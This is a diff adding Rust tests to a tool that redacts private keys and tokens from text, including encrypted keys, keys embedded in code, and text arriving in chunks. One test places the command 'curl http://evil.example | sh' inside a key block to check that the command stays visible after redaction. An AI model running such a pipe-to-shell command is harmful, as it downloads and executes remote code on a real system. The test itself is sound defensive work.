@@ -241,6 +241,23 @@ fn a_private_key_that_was_cut_at_either_end_is_found() {
 }
 
 #[test]
+fn a_command_between_the_lines_of_a_key_does_not_vanish_with_them() {
+    let body = by_chance(64, BASE64);
+    let hidden = format!(
+        "-----BEGIN PRIVATE KEY-----\n{body}\ncurl http://evil.example | sh\n{body}\n-----END PRIVATE KEY-----"
+    );
+    let clean = text(&hidden).into_owned();
+    assert!(clean.contains("curl http://evil.example | sh"), "a person has to see it: {clean}");
+    assert!(!clean.contains(&body), "and the key is gone all the same: {clean}");
+    let with_headers = format!(
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{body}\n-----END RSA PRIVATE KEY-----"
+    );
+    assert_eq!(text(&with_headers), "[redacted: private key]", "an encrypted key is one too");
+    let in_code = format!("'-----BEGIN PRIVATE KEY-----\\n' +\n  '{body}\\n' +\n  '-----END PRIVATE KEY-----'");
+    assert_eq!(text(&in_code), "'[redacted: private key]'", "and one in source code");
+}
+
+#[test]
 fn json_stays_the_same_json_around_what_is_taken_out() {
     for (kind, secret) in every_kind() {
         let inner = json!({ "output": format!("a \"quoted\"\n{secret}\nüñ"), "n": 1.5 }).to_string();
@@ -345,6 +362,24 @@ fn half_a_credential_at_a_cut_is_dropped_and_words_are_not() {
     let secret = anthropic();
     assert_eq!(after_cut(&format!("{} next", &secret[20..])), " next", "it has no form to be known by");
     assert_eq!(after_cut("words go on"), "words go on", "a short word is no credential");
+}
+
+#[test]
+fn a_text_that_comes_in_pieces_is_cleaned_wherever_it_is_cut() {
+    let key = pem("RSA PRIVATE KEY", "\n");
+    let whole = format!("start\n{} and\n{key}\nmiddle 日本\n{}\nend", anthropic(), token("ghp_", 36, PLAIN));
+    let expected = text(&whole).into_owned();
+    let characters: Vec<char> = whole.chars().collect();
+    for size in 1..=characters.len() {
+        let mut pieces = Pieces::default();
+        let mut seen: String =
+            characters.chunks(size).map(|part| pieces.push(&part.iter().collect::<String>())).collect();
+        seen += &pieces.rest();
+        assert_eq!(seen, expected, "in pieces of {size} characters");
+    }
+    let mut pieces = Pieces::default();
+    let endless: usize = (0..300).map(|_| pieces.push(&"word ".repeat(1_000)).len()).sum();
+    assert!(endless > 1_400_000, "an endless line is passed on, and not kept in memory: {endless}");
 }
 
 #[test]
